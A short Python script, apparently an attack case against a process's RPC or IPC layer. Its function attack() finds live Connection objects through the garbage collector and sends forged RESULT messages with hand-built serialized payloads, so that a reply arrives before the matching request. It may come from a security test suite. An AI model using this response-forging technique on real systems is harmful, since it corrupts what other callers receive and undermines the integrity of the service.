"""Change how this process answers. Success: an answer is taken before its question."""

import gc


def attack():
    for thing in gc.get_objects():
        if type(thing).__name__ == "Connection":
            thing.send(RESULT, call_under_way(), [b"l\3\0\0\0" + b"N" * 3])
            thing.send(RESULT, call_under_way(), [b"s\6\0\0\0forged"])
